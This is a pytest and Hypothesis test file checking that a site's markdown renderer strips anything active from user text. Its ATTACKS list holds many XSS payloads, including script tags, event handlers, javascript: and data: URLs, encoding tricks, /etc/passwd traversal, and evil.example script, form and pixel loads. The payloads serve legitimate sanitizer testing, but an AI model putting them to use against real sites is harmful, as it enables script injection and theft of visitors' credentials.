"""Whatever somebody writes as an item's text, no page gets anything active from it; and what they mean is shown."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from content import markdown
from content.markdown import Picture, html, plain
from content.tests.documents import Document

pytestmark = pytest.mark.once

KEY = "0b9c2b1e-6e3a-4ac4-9d2c-9a3f4f1c8a11"
PICTURES = {KEY: Picture(f"/watch/media/{KEY}/", "A moon over hills.", 960, 540)}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xss id=x onfocus=alert(1) tabindex=1>#x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:https://evil.example/x)",
    "[x](filesystem:https://evil.example/x)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](media:abc)",
    "[x](https://e.example/ \"t' onmouseover='alert(1)\")",
    '[x](https://e.example/ "t\\" onmouseover=\\"alert(1)")',
    "[x](https://e.example/%22onmouseover=alert(1))",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'x'",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "<data:text/html,x>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/watch/media/somebody-elses/)",
    "![\"onerror=alert(1) x](x)",
    f'!["><script>alert(1)</script>](media:{KEY} "\'><script>alert(1)</script>")',
    f"![![](javascript:alert(1))](media:{KEY})",
    f"[![x](media:{KEY})](javascript:alert(1))",
    f"![x](media:{KEY}/../../x)",
    "![x](media:../../../etc/passwd)",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "|a|\n|:-\"onmouseover=alert(1)-:|\n|b|",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    "x[^<script>]\n\n[^<script>]: y",
    'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: y',
    "1\" onclick=alert(1). x",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "~~<script>~~ **<style>** *<iframe>*",
]  # fmt: skip


ALLOWED = {"href", "title", "rel", "id", "src", "alt", "width", "height", "start", "class", "tabindex", "loading"}
CLASSES = {"table", "scroll", "footnotes", "to-left", "to-center", "to-right"}


def assert_harmless(document: str) -> None:
    found = Document(document)
    assert found.tags <= markdown.TAGS
    assert {name for _, name, _ in found.attributes} <= ALLOWED
    assert set(found.values("class")) <= CLASSES
    assert set(found.values("src")) <= {f"/watch/media/{KEY}/"}
    for address in found.values("href"):
        plainly = "".join(sign for sign in address if sign > " ").lower()
        scheme, colon, _ = plainly.partition(":")
        assert not colon or not scheme.isalnum() or scheme in {"http", "https", "mailto"}, address
    for identity in found.values("id"):
        assert markdown.FOOTNOTE_ID.fullmatch(identity)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_of_an_attack(attack: str) -> None:
    for text in (attack, f"a *{attack}* b", f"> {attack}", f"- {attack}", f"# {attack}", f"[{attack}](/x)"):
        assert_harmless(html(text, pictures=PICTURES))


SIGNS = [
    "\n", "\n\n", " ", "# ", "> ", "- ", "1. ", "`", "[", "](", ")", "![", "<", ">", "&", "'", '"', "*", "_", "~~",
    "[^1]", "[^1]: ", "    ", "\\", "javascript:", "\x00", "\ufffe", "| ", "|---|\n", "```\n", f"media:{KEY}",
]  # fmt: skip
pieces = st.sampled_from([*ATTACKS, *SIGNS])


@settings(max_examples=300, deadline=None, database=None)
@given(st.lists(pieces | st.text(max_size=10), max_size=12))
def test_nothing_active_comes_of_any_mixture(parts: list[str]) -> None:
    assert_harmless(html("".join(parts), pictures=PICTURES))


@settings(max_examples=200, deadline=None, database=None)
@given(st.lists(pieces | st.text(max_size=10), max_size=12))
def test_plain_words_can_be_made_of_any_text(parts: list[str]) -> None:
    assert isinstance(plain("".join(parts)), str)


def test_html_is_shown_as_it_was_written() -> None:
    assert html("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_headings_begin_below_that_of_the_page_and_end_at_the_sixth() -> None:
    assert html("# One\n\n###### Six") == "<h2>One</h2>\n<h6>Six</h6>\n"
    assert html("# One", headings_below=2) == "<h3>One</h3>\n"


def test_a_link_to_another_site_passes_nothing_on() -> None:
    for address in ("https://other.example/", "//other.example/", "http://localhost.other.example/"):
        assert 'rel="noopener noreferrer nofollow"' in html(f"[x](<{address}>)"), address


def test_a_link_to_this_site_is_a_plain_one(settings: object) -> None:
    settings.PUBLIC_URL = "https://bambisleep.example"  # type: ignore[attr-defined]
    for address in ("/content/", "#part", "?page=2", "https://bambisleep.example/content/"):
        assert html(f"[x]({address})") == f'<p><a href="{address}">x</a></p>\n'
    assert "nofollow" in html("[x](https://bambisleep.example.evil.example/)")


def test_a_picture_of_the_item_is_shown_with_its_size_and_words() -> None:
    shown = Document(html(f"![Hills *at night*](media:{KEY})", pictures=PICTURES))
    assert {name: value for _, name, value in shown.attributes} == {
        "src": f"/watch/media/{KEY}/", "alt": "Hills at night", "width": "960", "height": "540", "loading": "lazy"
    }  # fmt: skip


def test_a_picture_without_words_has_those_that_it_was_uploaded_with() -> None:
    assert 'alt="A moon over hills."' in html(f"![](media:{KEY})", pictures=PICTURES)


def test_any_other_picture_is_words() -> None:
    for address in ("https://other.example/a.png", "media:other", "/static/favicon.svg", f"/watch/media/{KEY}/"):
        assert html(f"![A <moon>]({address})", pictures=PICTURES) == "<p>A &lt;moon&gt;</p>\n"


def test_a_table_keeps_its_columns_alignment_without_a_style() -> None:
    made = html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th class="to-center">a</th>' in made
    assert '<td class="to-right">2</td>' in made
    assert "style" not in made


def test_what_scrolls_by_itself_is_reached_by_the_keyboard() -> None:
    assert '<pre tabindex="0">' in html("```\ncode\n```")
    assert '<div class="scroll" tabindex="0"><table class="table">' in html("|a|\n|-|\n|b|")


def test_footnotes_of_two_texts_on_one_page_have_addresses_of_their_own() -> None:
    text = "x[^1] y[^1]\n\n[^1]: note"
    body, transcript = Document(html(text)), Document(html(text, name="transcript"))
    assert len(body.values("id")) == 3
    assert not set(body.values("id")) & set(transcript.values("id"))
    assert {f"#{identity}" for identity in body.values("id")} == set(body.values("href"))


def test_struck_out_and_quoted_and_numbered_text_is_shown() -> None:
    made = html("~~no~~\n\n> said\n\n3. three")
    assert "<s>no</s>" in made
    assert "<blockquote>" in made
    assert '<ol start="3">' in made


def test_plain_words_hold_no_markup_and_no_addresses() -> None:
    text = f"# A *heading*\n\n[link](https://other.example) and\n`code`\n\n![Hills](media:{KEY})\n\n| a |\n|-|\n| b |"
    assert plain(text) == "A heading\nlink and code\nHills\na\nb"


def test_a_text_of_deep_quotes_is_made_in_one_go() -> None:
    assert_harmless(html(">" * 5_000 + "x\n" + "- " * 2_000 + "[" * 5_000 + "*" * 5_000))
